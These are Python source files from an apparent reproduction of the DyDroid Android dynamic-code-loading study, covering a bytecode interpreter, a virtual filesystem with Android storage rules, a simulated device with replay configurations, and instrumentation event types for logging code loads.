The VM executes mini-DEX bytecode against the simulated framework:

- **app classes** live in the class space (populated at install from
  ``classes.dex`` and extended at runtime by the class loaders -- that *is*
  dynamic code loading);
- **framework calls** dispatch through an API registry populated by
  :mod:`repro.runtime.frameworkapi`; instance methods resolve along a
  framework inheritance table (e.g. ``HttpURLConnection`` -> ``URLConnection``)
  just as virtual dispatch would;
- a **call stack** of :class:`StackTraceElement` is maintained so hooked
  framework methods can capture the Java stack trace DyDroid uses for
  call-site / entity attribution;
- an **instruction budget** and **depth limit** bound every entry-point
  invocation, so fuzzing 46K apps terminates.

Exceptions propagate as :class:`VMException`; the App Execution Engine maps
an uncaught one to the "Crash" row of Table II.
"""

from __future__ import annotations

from dataclasses import dataclass, field
from typing import Any, Callable, Dict, List, Optional, Tuple

from repro.android.bytecode import Cmp, FieldRef, Instruction, MethodRef, Op
from repro.android.dex import DexClass, DexFile, DexMethod
from repro.android.manifest import WRITE_EXTERNAL_STORAGE, AndroidManifest
from repro.android.apk import Apk
from repro.runtime.device import Device
from repro.runtime.instrumentation import Instrumentation
from repro.runtime.objects import VMException, VMObject, as_bool
from repro.runtime.stacktrace import StackTraceElement
from repro.runtime.vfs import internal_dir

ApiFn = Callable[["DalvikVM", List[Any]], Any]

DEFAULT_INSTRUCTION_BUDGET = 200_000
MAX_CALL_DEPTH = 64


class ExecutionError(RuntimeError):
    """Wraps fatal interpreter conditions (budget/depth exhaustion)."""


class BudgetExceededError(ExecutionError):
    """The per-entry instruction budget ran out (looping app)."""


class _FrameReturn(Exception):
    """Internal control flow: a frame returned a value."""

    def __init__(self, value: Any) -> None:
        self.value = value


#: catch-all exception classes (we do not model the full Throwable tree).
_CATCH_ALL = ("java.lang.Throwable", "java.lang.Exception")


def _exception_matches(thrown_class: str, caught_class: str) -> bool:
    if caught_class in _CATCH_ALL:
        return True
    if thrown_class == caught_class:
        return True
    # coarse family matching: java.io.IOException catches its subclasses by
    # name convention (FileNotFoundException is registered as java.io.*).
    if caught_class == "java.io.IOException" and thrown_class.startswith("java.io."):
        return True
    if caught_class == "java.lang.RuntimeException" and thrown_class.startswith("java.lang."):
        return True
    return False


@dataclass
class ExecutionContext:
    """Identity of the app currently executing on this VM."""

    package: str
    apk: Apk
    manifest: AndroidManifest
    release_time_ms: int = 0

    @property
    def data_dir(self) -> str:
        return internal_dir(self.package)

    @property
    def has_external_write(self) -> bool:
        return self.manifest.has_permission(WRITE_EXTERNAL_STORAGE)


@dataclass
class _Frame:
    method: DexMethod
    registers: Dict[int, Any] = field(default_factory=dict)
    pending_result: Any = None
    caught_exception: Any = None


class DalvikVM:
    """One interpreter instance, bound to a device and an instrumentation bus."""

    def __init__(
        self,
        device: Device,
        instrumentation: Optional[Instrumentation] = None,
        instruction_budget: int = DEFAULT_INSTRUCTION_BUDGET,
    ) -> None:
        self.device = device
        self.instrumentation = instrumentation or Instrumentation()
        self.instruction_budget = instruction_budget
        self.context: Optional[ExecutionContext] = None

        self.class_space: Dict[str, DexClass] = {}
        self.statics: Dict[Tuple[str, str], Any] = {}
        self.call_stack: List[StackTraceElement] = []
        #: app methods that actually executed -- the numerator of the
        #: fuzzing code-coverage question the paper's discussion raises.
        self.executed_methods: set = set()

        self._api: Dict[Tuple[str, str], ApiFn] = {}
        self._framework_supers: Dict[str, str] = {}
        self._static_fields: Dict[Tuple[str, str], Any] = {}
        self._budget_left = instruction_budget

        # Registered lazily to avoid an import cycle: frameworkapi needs the
        # VM types, the VM needs the registry contents.
        from repro.runtime import frameworkapi

        frameworkapi.install(self)

    # -- registry wiring (used by frameworkapi, classloader, jni) -----------------

    def register_api(self, class_name: str, method_name: str, fn: ApiFn) -> None:
        self._api[(class_name, method_name)] = fn

    def register_framework_super(self, class_name: str, superclass: str) -> None:
        self._framework_supers[class_name] = superclass

    def register_static_field(self, class_name: str, field_name: str, value: Any) -> None:
        self._static_fields[(class_name, field_name)] = value

    def is_framework_class(self, class_name: str) -> bool:
        if class_name in self._framework_supers:
            return True
        return any(key[0] == class_name for key in self._api)

    # -- class space ----------------------------------------------------------------

    def load_dex(self, dex: DexFile) -> List[str]:
        """Define a DEX file's classes into the class space.

        Later definitions do not clobber earlier ones (parent-first class
        loader delegation).  Returns the names actually defined.
        """
        defined = []
        for cls in dex.classes:
            if cls.name not in self.class_space:
                self.class_space[cls.name] = cls
                defined.append(cls.name)
        return defined

    def install_app(self, apk: Apk, release_time_ms: int = 0) -> ExecutionContext:
        """Install the app's primary bytecode and make it the current context."""
        self.device.install(apk)
        for dex in apk.dex_files():
            self.load_dex(dex)
        self.context = ExecutionContext(
            package=apk.package,
            apk=apk,
            manifest=apk.manifest,
            release_time_ms=release_time_ms,
        )
        return self.context

    def resolve_app_method(self, class_name: str, method_name: str) -> Optional[DexMethod]:
        """Find a method on a class or its app-space superclasses."""
        seen = set()
        current: Optional[str] = class_name
        while current and current not in seen:
            seen.add(current)
            cls = self.class_space.get(current)
            if cls is None:
                return None
            method = cls.method(method_name)
            if method is not None:
                return method
            current = cls.superclass
        return None

    # -- stack traces -----------------------------------------------------------------

    def stack_trace(self) -> Tuple[StackTraceElement, ...]:
        """Innermost-first, matching ``Throwable.getStackTrace()``."""
        return tuple(reversed(self.call_stack))

    # -- invocation --------------------------------------------------------------------

    def run_entry(self, class_name: str, method_name: str, args: Optional[List[Any]] = None) -> Any:
        """Invoke an entry point with a fresh instruction budget."""
        self._budget_left = self.instruction_budget
        ref = MethodRef(class_name, method_name, len(args or []))
        return self.invoke(ref, list(args or []))

    def invoke(self, ref: MethodRef, args: List[Any]) -> Any:
        """Dispatch one INVOKE: app bytecode, or framework API, or default."""
        if len(self.call_stack) >= MAX_CALL_DEPTH:
            raise VMException("java.lang.StackOverflowError", str(ref))

        target_class = ref.class_name
        receiver = args[0] if args else None
        if isinstance(receiver, VMObject):
            # Virtual dispatch: the receiver's dynamic type wins when it
            # subclasses the static target.
            if self._is_subclass(receiver.class_name, target_class):
                target_class = receiver.class_name

        method = self.resolve_app_method(target_class, ref.name)
        if method is not None:
            return self._interpret(method, args)

        api_fn = self._resolve_api(target_class, ref.name)
        if api_fn is not None:
            self.call_stack.append(StackTraceElement(ref.class_name, ref.name))
            try:
                return api_fn(self, args)
            finally:
                self.call_stack.pop()

        # Unmodeled framework surface: tolerate like a no-op stub.  Unknown
        # *app* classes are real linkage errors.
        if self._looks_framework(target_class) or self._has_framework_ancestor(target_class):
            return None
        if target_class in self.class_space:
            raise VMException("java.lang.NoSuchMethodError", str(ref))
        raise VMException("java.lang.ClassNotFoundException", target_class)

    def _has_framework_ancestor(self, class_name: str) -> bool:
        """True when an app class ultimately extends framework code, in which
        case unmodeled inherited methods degrade to no-ops instead of
        linkage errors."""
        seen = set()
        current: Optional[str] = class_name
        while current and current not in seen:
            seen.add(current)
            if self._looks_framework(current) or current in self._framework_supers:
                return True
            cls = self.class_space.get(current)
            if cls is None:
                return False
            current = cls.superclass
        return False

    def _is_subclass(self, class_name: str, ancestor: str) -> bool:
        if class_name == ancestor:
            return True
        seen = set()
        current: Optional[str] = class_name
        while current and current not in seen:
            seen.add(current)
            cls = self.class_space.get(current)
            current = cls.superclass if cls else self._framework_supers.get(current)
            if current == ancestor:
                return True
        return False

    def _resolve_api(self, class_name: str, method_name: str) -> Optional[ApiFn]:
        """Walk the merged app+framework superclass chain for an API impl.

        App classes extending framework classes (an Activity subclass, say)
        must resolve inherited framework methods across the boundary.
        """
        seen = set()
        current: Optional[str] = class_name
        while current and current not in seen:
            seen.add(current)
            fn = self._api.get((current, method_name))
            if fn is not None:
                return fn
            app_cls = self.class_space.get(current)
            if app_cls is not None:
                current = app_cls.superclass
            else:
                current = self._framework_supers.get(current)
        return None

    @staticmethod
    def _looks_framework(class_name: str) -> bool:
        return class_name.startswith(
            ("java.", "javax.", "android.", "dalvik.", "libcore.")
        )

    # -- the interpreter loop ---------------------------------------------------------------

    def _interpret(self, method: DexMethod, args: List[Any]) -> Any:
        frame = _Frame(method=method)
        for index, value in enumerate(args):
            frame.registers[index] = value
        labels = method.labels()
        self.executed_methods.add((method.class_name, method.name))
        self.call_stack.append(StackTraceElement(method.class_name, method.name))
        try:
            return self._run_frame(frame, labels)
        finally:
            self.call_stack.pop()

    def _run_frame(self, frame: _Frame, labels: Dict[str, int]) -> Any:
        insns = frame.method.instructions
        regs = frame.registers
        pc = 0
        #: active try regions, innermost last: (handler label, caught class).
        handlers: List[Tuple[str, str]] = []
        while pc < len(insns):
            if self._budget_left <= 0:
                raise BudgetExceededError(
                    "instruction budget exhausted in {}".format(frame.method.ref)
                )
            self._budget_left -= 1
            insn = insns[pc]
            op = insn.op

            try:
                pc = self._step(insn, op, pc, frame, regs, labels, handlers)
            except _FrameReturn as result:
                return result.value
            except VMException as exc:
                handler_pc = self._find_handler(handlers, labels, exc, frame)
                if handler_pc is None:
                    raise
                pc = handler_pc
        return None

    def _step(
        self,
        insn: Instruction,
        op: Op,
        pc: int,
        frame: _Frame,
        regs: Dict[int, Any],
        labels: Dict[str, int],
        handlers: "List[Tuple[str, str]]",
    ) -> int:
        """Execute one instruction; returns the next pc."""
        if True:
            if op is Op.LABEL or op is Op.NOP:
                pc += 1
            elif op is Op.CONST:
                regs[insn.args[0]] = insn.args[1]
                pc += 1
            elif op is Op.MOVE:
                regs[insn.args[0]] = regs.get(insn.args[1])
                pc += 1
            elif op is Op.NEW_INSTANCE:
                regs[insn.args[0]] = VMObject(insn.args[1])
                pc += 1
            elif op is Op.NEW_ARRAY:
                size = regs.get(insn.args[1], 0)
                regs[insn.args[0]] = VMObject("byte[]", payload=bytearray(int(size or 0)))
                pc += 1
            elif op is Op.INVOKE:
                ref, arg_regs = insn.args
                call_args = [regs.get(r) for r in arg_regs]
                frame.pending_result = self.invoke(ref, call_args)
                pc += 1
            elif op is Op.MOVE_RESULT:
                regs[insn.args[0]] = frame.pending_result
                pc += 1
            elif op is Op.IGET:
                dst, obj_reg, ref = insn.args
                regs[dst] = self._iget(regs.get(obj_reg), ref)
                pc += 1
            elif op is Op.IPUT:
                src, obj_reg, ref = insn.args
                self._iput(regs.get(src), regs.get(obj_reg), ref)
                pc += 1
            elif op is Op.SGET:
                dst, ref = insn.args
                regs[dst] = self._sget(ref)
                pc += 1
            elif op is Op.SPUT:
                src, ref = insn.args
                self.statics[(ref.class_name, ref.name)] = regs.get(src)
                pc += 1
            elif op is Op.AGET:
                dst, arr_reg, idx_reg = insn.args
                regs[dst] = self._aget(regs.get(arr_reg), regs.get(idx_reg))
                pc += 1
            elif op is Op.APUT:
                src, arr_reg, idx_reg = insn.args
                self._aput(regs.get(src), regs.get(arr_reg), regs.get(idx_reg))
                pc += 1
            elif op is Op.IF:
                cmp, a_reg, b_reg, target = insn.args
                if self._compare(cmp, regs.get(a_reg), None if b_reg is None else regs.get(b_reg)):
                    pc = self._jump(labels, target, frame)
                else:
                    pc += 1
            elif op is Op.GOTO:
                pc = self._jump(labels, insn.args[0], frame)
            elif op is Op.RETURN:
                raise _FrameReturn(regs.get(insn.args[0]))
            elif op is Op.RETURN_VOID:
                raise _FrameReturn(None)
            elif op is Op.THROW:
                thrown = regs.get(insn.args[0])
                name = thrown.class_name if isinstance(thrown, VMObject) else "java.lang.RuntimeException"
                raise VMException(name, "thrown by {}".format(frame.method.ref))
            elif op is Op.BINOP:
                name, dst, a_reg, b_reg = insn.args
                regs[dst] = self._binop(name, regs.get(a_reg), regs.get(b_reg))
                pc += 1
            elif op is Op.TRY_START:
                handler_label = insn.args[0]
                caught_class = insn.args[1] if len(insn.args) > 1 else "java.lang.Throwable"
                handlers.append((handler_label, caught_class))
                pc += 1
            elif op is Op.TRY_END:
                if handlers:
                    handlers.pop()
                pc += 1
            elif op is Op.MOVE_EXCEPTION:
                regs[insn.args[0]] = frame.caught_exception
                pc += 1
            else:  # pragma: no cover - the Op enum is closed
                raise ExecutionError("unhandled opcode {}".format(op))
        return pc

    def _find_handler(
        self,
        handlers: "List[Tuple[str, str]]",
        labels: Dict[str, int],
        exc: VMException,
        frame: _Frame,
    ) -> Optional[int]:
        """Unwind to the innermost matching try handler, if any."""
        while handlers:
            handler_label, caught_class = handlers.pop()
            if not _exception_matches(exc.class_name, caught_class):
                continue
            index = labels.get(handler_label)
            if index is None:
                raise VMException(
                    "java.lang.VerifyError",
                    "missing handler label {} in {}".format(handler_label, frame.method.ref),
                )
            thrown = VMObject(exc.class_name, payload=exc.message)
            thrown.fields["message"] = exc.message
            frame.caught_exception = thrown
            return index
        return None

    @staticmethod
    def _jump(labels: Dict[str, int], target: str, frame: _Frame) -> int:
        index = labels.get(target)
        if index is None:
            raise VMException(
                "java.lang.VerifyError",
                "missing label {} in {}".format(target, frame.method.ref),
            )
        return index

    # -- operand helpers -----------------------------------------------------------

    def _iget(self, obj: Any, ref: FieldRef) -> Any:
        if not isinstance(obj, VMObject):
            raise VMException("java.lang.NullPointerException", str(ref))
        return obj.fields.get(ref.name)

    def _iput(self, value: Any, obj: Any, ref: FieldRef) -> None:
        if not isinstance(obj, VMObject):
            raise VMException("java.lang.NullPointerException", str(ref))
        obj.fields[ref.name] = value

    def _sget(self, ref: FieldRef) -> Any:
        key = (ref.class_name, ref.name)
        if key in self.statics:
            return self.statics[key]
        if key in self._static_fields:
            value = self._static_fields[key]
            return value(self) if callable(value) else value
        return None

    def _aget(self, array: Any, index: Any) -> Any:
        payload = array.payload if isinstance(array, VMObject) else None
        if payload is None:
            raise VMException("java.lang.NullPointerException", "aget")
        try:
            return payload[int(index or 0)]
        except IndexError:
            raise VMException("java.lang.ArrayIndexOutOfBoundsException", str(index))

    def _aput(self, value: Any, array: Any, index: Any) -> None:
        payload = array.payload if isinstance(array, VMObject) else None
        if payload is None:
            raise VMException("java.lang.NullPointerException", "aput")
        try:
            payload[int(index or 0)] = value
        except IndexError:
            raise VMException("java.lang.ArrayIndexOutOfBoundsException", str(index))

    @staticmethod
    def _compare(cmp: Cmp, a: Any, b: Any) -> bool:
        if cmp is Cmp.EQZ:
            return not as_bool(a) or a == 0
        if cmp is Cmp.NEZ:
            return as_bool(a) and a != 0
        if cmp is Cmp.EQ:
            return a == b
        if cmp is Cmp.NE:
            return a != b
        a_num = a if isinstance(a, (int, float)) else 0
        b_num = b if isinstance(b, (int, float)) else 0
        if cmp is Cmp.LT:
            return a_num < b_num
        if cmp is Cmp.LE:
            return a_num <= b_num
        if cmp is Cmp.GT:
            return a_num > b_num
        if cmp is Cmp.GE:
            return a_num >= b_num
        raise ExecutionError("unhandled comparison {}".format(cmp))

    @staticmethod
    def _binop(name: str, a: Any, b: Any) -> Any:
        a_num = a if isinstance(a, (int, float)) else 0
        b_num = b if isinstance(b, (int, float)) else 0
        if name == "add":
            return a_num + b_num
        if name == "sub":
            return a_num - b_num
        if name == "mul":
            return a_num * b_num
        if name == "div":
            if b_num == 0:
                raise VMException("java.lang.ArithmeticException", "divide by zero")
            return a_num // b_num
        if name == "rem":
            if b_num == 0:
                raise VMException("java.lang.ArithmeticException", "divide by zero")
            return a_num % b_num
        if name == "and":
            return int(a_num) & int(b_num)
        if name == "or":
            return int(a_num) | int(b_num)
        if name == "xor":
            return int(a_num) ^ int(b_num)
        raise ExecutionError("unhandled binop {}".format(name))
