"""Virtual filesystem with Android storage semantics.

Three storage areas matter to DyDroid:

- **internal storage** ``/data/data/<package>/...`` -- private per app; only
  the owning app may create/modify files there (other apps *can read* files
  the owner exposed, which is how the "load from another app's internal
  storage" pattern works);
- **external storage** ``/mnt/sdcard/...`` -- world-writable before Android
  4.4; afterwards writing requires ``WRITE_EXTERNAL_STORAGE``;
- **system** ``/system/...`` -- read-only, vendor-provided (system libraries
  are out of DyDroid's scope).

The filesystem enforces a byte quota; the App Execution Engine treats
:class:`StorageFullError` as one of the exceptions it must survive
automatically ("various types of exceptions are automatically handled, such
as device storage running out").
"""

from __future__ import annotations

import posixpath
from dataclasses import dataclass, field
from typing import Dict, Iterator, List, Optional

INTERNAL_ROOT = "/data/data"
APP_INSTALL_ROOT = "/data/app"
EXTERNAL_ROOT = "/mnt/sdcard"
SYSTEM_ROOT = "/system"
SYSTEM_LIB_DIR = "/system/lib"

#: Owner string for files created by the OS itself.
SYSTEM_OWNER = "system"


class StorageFullError(OSError):
    """Device storage ran out."""


class AccessDeniedError(PermissionError):
    """A write was attempted outside the caller's storage rights."""


def normalize(path: str) -> str:
    """Collapse ``..``/``.`` and duplicate slashes into a canonical path."""
    if not path.startswith("/"):
        path = "/" + path
    return posixpath.normpath(path)


def internal_dir(package: str) -> str:
    return "{}/{}".format(INTERNAL_ROOT, package)


def apk_install_path(package: str) -> str:
    return "{}/{}-1.apk".format(APP_INSTALL_ROOT, package)


def internal_owner(path: str) -> Optional[str]:
    """The package owning an internal-storage path, or None."""
    path = normalize(path)
    prefix = INTERNAL_ROOT + "/"
    if not path.startswith(prefix):
        return None
    remainder = path[len(prefix):]
    package, _, _ = remainder.partition("/")
    return package or None


def is_external(path: str) -> bool:
    return normalize(path).startswith(EXTERNAL_ROOT + "/")


def is_system(path: str) -> bool:
    return normalize(path).startswith(SYSTEM_ROOT + "/")


@dataclass
class FileRecord:
    """A file: bytes plus ownership/visibility metadata."""

    path: str
    data: bytes
    owner: str = SYSTEM_OWNER
    world_readable: bool = True
    world_writable: bool = False
    created_at_ms: int = 0

    @property
    def size(self) -> int:
        return len(self.data)


@dataclass
class VirtualFilesystem:
    """All files on the device, with permission-checked mutation."""

    quota_bytes: int = 64 * 1024 * 1024
    files: Dict[str, FileRecord] = field(default_factory=dict)
    #: coarse IO counters -- the "syscall trace" low-level monitors
    #: (Crowdroid-style baselines) observe.
    op_counts: Dict[str, int] = field(
        default_factory=lambda: {"read": 0, "write": 0, "delete": 0, "rename": 0}
    )

    # -- queries ---------------------------------------------------------------

    def exists(self, path: str) -> bool:
        return normalize(path) in self.files

    def stat(self, path: str) -> Optional[FileRecord]:
        return self.files.get(normalize(path))

    def read(self, path: str) -> bytes:
        record = self.files.get(normalize(path))
        self.op_counts["read"] += 1
        if record is None:
            raise FileNotFoundError(path)
        return record.data

    def listdir(self, prefix: str) -> List[str]:
        """Paths under a directory prefix, sorted."""
        prefix = normalize(prefix).rstrip("/") + "/"
        return sorted(p for p in self.files if p.startswith(prefix))

    def used_bytes(self) -> int:
        return sum(record.size for record in self.files.values())

    def __iter__(self) -> Iterator[FileRecord]:
        for path in sorted(self.files):
            yield self.files[path]

    # -- permission model --------------------------------------------------------

    def may_write(
        self,
        path: str,
        writer: str,
        has_external_permission: bool = True,
        api_level: int = 18,
    ) -> bool:
        """Android's write rules for the three storage areas."""
        path = normalize(path)
        if writer == SYSTEM_OWNER:
            return True
        if is_system(path):
            return False
        owner = internal_owner(path)
        if owner is not None:
            if owner == writer:
                return True
            existing = self.files.get(path)
            return existing is not None and existing.world_writable
        if is_external(path):
            if api_level < 19:
                return True
            return has_external_permission
        if path.startswith(APP_INSTALL_ROOT + "/"):
            return False
        # Everything else (e.g. /cache, /tmp) is treated as shared scratch.
        return True

    # -- mutation ------------------------------------------------------------------

    def write(
        self,
        path: str,
        data: bytes,
        owner: str = SYSTEM_OWNER,
        world_readable: bool = True,
        world_writable: bool = False,
        has_external_permission: bool = True,
        api_level: int = 18,
        created_at_ms: int = 0,
    ) -> FileRecord:
        path = normalize(path)
        if not self.may_write(path, owner, has_external_permission, api_level):
            raise AccessDeniedError("{} may not write {}".format(owner, path))
        existing = self.files.get(path)
        existing_size = existing.size if existing else 0
        if self.used_bytes() - existing_size + len(data) > self.quota_bytes:
            raise StorageFullError("device storage full writing {}".format(path))
        if is_external(path):
            # Files on the FAT-formatted sdcard carry no unix permissions.
            world_readable = True
            world_writable = True
        record = FileRecord(
            path=path,
            data=data,
            owner=owner,
            world_readable=world_readable,
            world_writable=world_writable,
            created_at_ms=created_at_ms,
        )
        self.files[path] = record
        self.op_counts["write"] += 1
        return record

    def append(self, path: str, data: bytes, **kwargs: object) -> FileRecord:
        existing = self.files.get(normalize(path))
        combined = (existing.data if existing else b"") + data
        return self.write(path, combined, **kwargs)  # type: ignore[arg-type]

    def delete(self, path: str) -> bool:
        """Remove a file; True when it existed."""
        self.op_counts["delete"] += 1
        return self.files.pop(normalize(path), None) is not None

    def rename(self, src: str, dst: str) -> bool:
        """Move a file; True on success."""
        src, dst = normalize(src), normalize(dst)
        self.op_counts["rename"] += 1
        record = self.files.pop(src, None)
        if record is None:
            return False
        self.files[dst] = FileRecord(
            path=dst,
            data=record.data,
            owner=record.owner,
            world_readable=record.world_readable,
            world_writable=record.world_writable,
            created_at_ms=record.created_at_ms,
        )
        return True

    def wipe_owner(self, owner: str) -> int:
        """Delete every file owned by ``owner``; returns count removed."""
        doomed = [p for p, r in self.files.items() if r.owner == owner]
        for path in doomed:
            del self.files[path]
        return len(doomed)
