"""Device state: clock, settings, radios, identity, installs.

One :class:`Device` corresponds to the paper's measurement handset (a
Samsung Galaxy Nexus running instrumented Android 4.3.1).  The App Execution
Engine typically provisions a fresh device per analyzed app, then replays
flagged apps under alternative :class:`EnvironmentConfig` settings to probe
the logical conditions malware uses to hide (Table VIII: system time,
airplane mode with/without WiFi, location service).
"""

from __future__ import annotations

from dataclasses import dataclass, field, replace
from typing import Dict, List, Optional

from repro.android.apk import Apk
from repro.runtime.network import Network
from repro.runtime.vfs import (
    SYSTEM_LIB_DIR,
    SYSTEM_OWNER,
    VirtualFilesystem,
    apk_install_path,
    internal_dir,
)

#: Android 4.3.1, the paper's measurement image.
JELLY_BEAN_MR2 = 18

#: A fixed reference "now" for the simulated clock: 2016-11-15, the month the
#: paper's corpus was collected.
DEFAULT_TIME_MS = 1479168000000

MS_PER_DAY = 86400000


@dataclass
class DeviceConfig:
    """Tunable device identity and radio/location/clock state."""

    api_level: int = JELLY_BEAN_MR2
    system_time_ms: int = DEFAULT_TIME_MS
    airplane_mode: bool = False
    wifi_enabled: bool = True
    location_enabled: bool = True
    imei: str = "355458061234567"
    imsi: str = "310260000000000"
    iccid: str = "8901260000000000000"
    line1_number: str = "+15555215554"
    accounts: List[str] = field(default_factory=lambda: ["user@example.com"])
    storage_quota_bytes: int = 256 * 1024 * 1024


@dataclass(frozen=True)
class EnvironmentConfig:
    """One Table VIII replay configuration."""

    name: str
    time_shift_days: int = 0          # negative = before the app's release date
    airplane_mode: bool = False
    wifi_enabled: bool = True
    location_enabled: bool = True


#: The four replay configurations from Table VIII, plus the baseline.
BASELINE_CONFIG = EnvironmentConfig(name="baseline")
TABLE_VIII_CONFIGS = (
    EnvironmentConfig(name="system-time-before-release", time_shift_days=-365),
    EnvironmentConfig(name="airplane-wifi-on", airplane_mode=True, wifi_enabled=True),
    EnvironmentConfig(name="airplane-wifi-off", airplane_mode=True, wifi_enabled=False),
    EnvironmentConfig(name="location-off", location_enabled=False),
)


@dataclass
class InstalledApp:
    """Bookkeeping for one installed package."""

    package: str
    apk: Apk
    apk_path: str
    version_code: int


class Device:
    """A simulated handset: filesystem + network + identity + package state."""

    def __init__(
        self,
        config: Optional[DeviceConfig] = None,
        network: Optional[Network] = None,
    ) -> None:
        self.config = config or DeviceConfig()
        self.vfs = VirtualFilesystem(quota_bytes=self.config.storage_quota_bytes)
        self.network = network or Network()
        self.installed: Dict[str, InstalledApp] = {}
        #: the Settings content provider (what the Google Ads library reads).
        self.settings: Dict[str, str] = {
            "android_id": "9774d56d682e549c",
            "adb_enabled": "0",
            "screen_brightness": "128",
            "airplane_mode_on": "1" if self.config.airplane_mode else "0",
        }
        #: content-provider tables: authority -> rows.
        self.provider_data: Dict[str, List[str]] = {
            "contacts": ["Alice;+15550100", "Bob;+15550101"],
            "calendar": ["2016-11-20 dentist"],
            "call_log": ["+15550100;out;60s"],
            "browser": ["http://news.example.com;bookmark"],
            "media.audio": ["/mnt/sdcard/Music/track01.mp3"],
            "media.images": ["/mnt/sdcard/DCIM/img001.jpg"],
            "media.video": ["/mnt/sdcard/DCIM/vid001.mp4"],
            "mms": ["+15550102;photo"],
            "sms": ["+15550102;see you at 8"],
        }
        from repro.runtime.broadcasts import BroadcastManager

        #: ordered-broadcast registrations and delivery history.
        self.broadcasts = BroadcastManager()
        #: android.util.Log output.
        self.logcat: List[str] = []
        #: SMS messages apps attempted to send: (destination, body).
        self.sms_sent: List[tuple] = []
        self._seed_system_files()

    # -- system image ------------------------------------------------------------

    def _seed_system_files(self) -> None:
        """A few vendor libraries, so "skip /system/lib" paths exist."""
        for lib_name in ("libc.so", "libm.so", "libwebviewchromium.so"):
            self.vfs.write(
                "{}/{}".format(SYSTEM_LIB_DIR, lib_name),
                b"\x7fELF\x02\x01\x01\x00<system>",
                owner=SYSTEM_OWNER,
            )

    # -- clock / radios ------------------------------------------------------------

    def now_ms(self) -> int:
        return self.config.system_time_ms

    def advance_time(self, delta_ms: int) -> None:
        self.config.system_time_ms += delta_ms

    def is_online(self) -> bool:
        """Connectivity: airplane mode kills everything unless WiFi is re-enabled."""
        if self.config.airplane_mode:
            return self.config.wifi_enabled
        return True

    def apply_environment(self, env: EnvironmentConfig, release_time_ms: Optional[int] = None) -> None:
        """Reconfigure for a Table VIII replay.

        ``time_shift_days`` is applied relative to the app release date when
        given (the paper sets the clock *before the app's release date*),
        otherwise relative to the current clock.
        """
        base = release_time_ms if release_time_ms is not None else self.config.system_time_ms
        if env.time_shift_days:
            self.config.system_time_ms = base + env.time_shift_days * MS_PER_DAY
        self.config.airplane_mode = env.airplane_mode
        self.config.wifi_enabled = env.wifi_enabled
        self.config.location_enabled = env.location_enabled
        self.settings["airplane_mode_on"] = "1" if env.airplane_mode else "0"

    # -- package management -----------------------------------------------------------

    def install(self, apk: Apk) -> InstalledApp:
        """Install an APK: write the package file, extract native libraries."""
        manifest = apk.manifest
        package = manifest.package
        apk_path = apk_install_path(package)
        self.vfs.write(apk_path, apk.to_bytes(), owner=SYSTEM_OWNER)
        lib_dir = "{}/lib".format(internal_dir(package))
        for entry_path, data in apk.native_lib_entries():
            lib_name = entry_path.rsplit("/", 1)[-1]
            self.vfs.write(
                "{}/{}".format(lib_dir, lib_name),
                data,
                owner=package,
                created_at_ms=self.now_ms(),
            )
        for component in manifest.components:
            if component.kind.value == "receiver" and component.intent_action:
                self.broadcasts.register(
                    package=package,
                    class_name=component.name,
                    action=component.intent_action,
                    priority=component.priority,
                )
        record = InstalledApp(
            package=package,
            apk=apk,
            apk_path=apk_path,
            version_code=manifest.version_code,
        )
        self.installed[package] = record
        return record

    def uninstall(self, package: str) -> bool:
        if package not in self.installed:
            return False
        del self.installed[package]
        self.vfs.delete(apk_install_path(package))
        self.vfs.wipe_owner(package)
        return True

    def installed_packages(self) -> List[str]:
        return sorted(self.installed)

    def app(self, package: str) -> Optional[InstalledApp]:
        return self.installed.get(package)

    def clone_config(self) -> DeviceConfig:
        return replace(self.config, accounts=list(self.config.accounts))

    # -- incoming events -----------------------------------------------------------

    def receive_sms(self, vm, sender: str, body: str):
        """Deliver an incoming SMS as an ordered broadcast.

        High-priority receivers (SMS-blocker malware) can abort the chain,
        in which case the message never reaches the user's inbox -- the
        trick the Swiss-code-monkeys family plays with carrier replies.
        """
        from repro.runtime.broadcasts import SMS_RECEIVED_ACTION

        record = self.broadcasts.deliver(
            vm, SMS_RECEIVED_ACTION, extras={"sender": sender, "body": body}
        )
        if not record.aborted:
            self.provider_data["sms"].append("{};{}".format(sender, body))
        return record
