"""The instrumentation hook bus.

The paper modifies the Android framework at a small, complete set of
mediation points; this module is that modification.  Framework API
implementations call into :class:`Instrumentation` when:

- a ``DexClassLoader`` / ``PathClassLoader`` is constructed (DCL logger);
- JNI ``load()`` / ``loadLibrary()`` / ``load0()`` runs (DCL logger);
- ``java.io.File.delete()`` / ``renameTo()`` is invoked -- blocked silently
  for paths queued by the code interceptor (mutual exclusion so temporary
  payloads survive for analysis);
- URL / stream / file IO happens (the download tracker's Table I flow rules:
  URL -> InputStream -> Buffer -> OutputStream -> File, File -> File).

The dynamic-analysis components subscribe to these events; the runtime knows
nothing about them, mirroring how framework hooks only *log* while DyDroid's
host-side tooling interprets the logs.
"""

from __future__ import annotations

from dataclasses import dataclass
from typing import Callable, List, Optional, Set, Tuple

from repro.runtime.stacktrace import StackTraceElement


@dataclass(frozen=True)
class DexLoadEvent:
    """One bytecode DCL event as logged by the hooked constructors."""

    dex_paths: Tuple[str, ...]
    odex_dir: Optional[str]
    loader_kind: str                  # "DexClassLoader" | "PathClassLoader"
    call_site: Optional[str]
    stack: Tuple[StackTraceElement, ...]
    app_package: str
    timestamp_ms: int


@dataclass(frozen=True)
class NativeLoadEvent:
    """One native DCL event as logged by the hooked JNI entry points."""

    lib_path: str
    api: str                          # "loadLibrary" | "load" | "load0"
    call_site: Optional[str]
    stack: Tuple[StackTraceElement, ...]
    app_package: str
    timestamp_ms: int


@dataclass(frozen=True)
class CodeOriginEvent:
    """One class defined into the VM and the file it was defined from.

    Emitted per defined class by the hooked loader constructors; the
    download tracker uses it to chain provenance across staged loads --
    when code defined from file A later downloads file B, B inherits A's
    remote ancestry.
    """

    class_name: str
    path: str
    app_package: str


@dataclass(frozen=True)
class LoadRejectedEvent:
    """A developer-side secure-loader refusal (digest/signature mismatch).

    Emitted by :class:`repro.defense.secure_loader.SecureDexClassLoader`
    when verification fails, so measurement counts the saves the defense
    produced -- loads that never happened are otherwise invisible to the
    DCL log.
    """

    path: str
    payload_name: str
    reason: str
    app_package: str
    timestamp_ms: int


@dataclass(frozen=True)
class FlowNode:
    """A node in the download-tracker flow graph: type @ hash code."""

    key: str
    kind: str                         # "URL" | "InputStream" | "Buffer" | ...
    detail: str = ""                  # URL spec or file path where applicable


@dataclass(frozen=True)
class FlowEdge:
    """A directed flow observed by the instrumented IO methods."""

    src: FlowNode
    dst: FlowNode
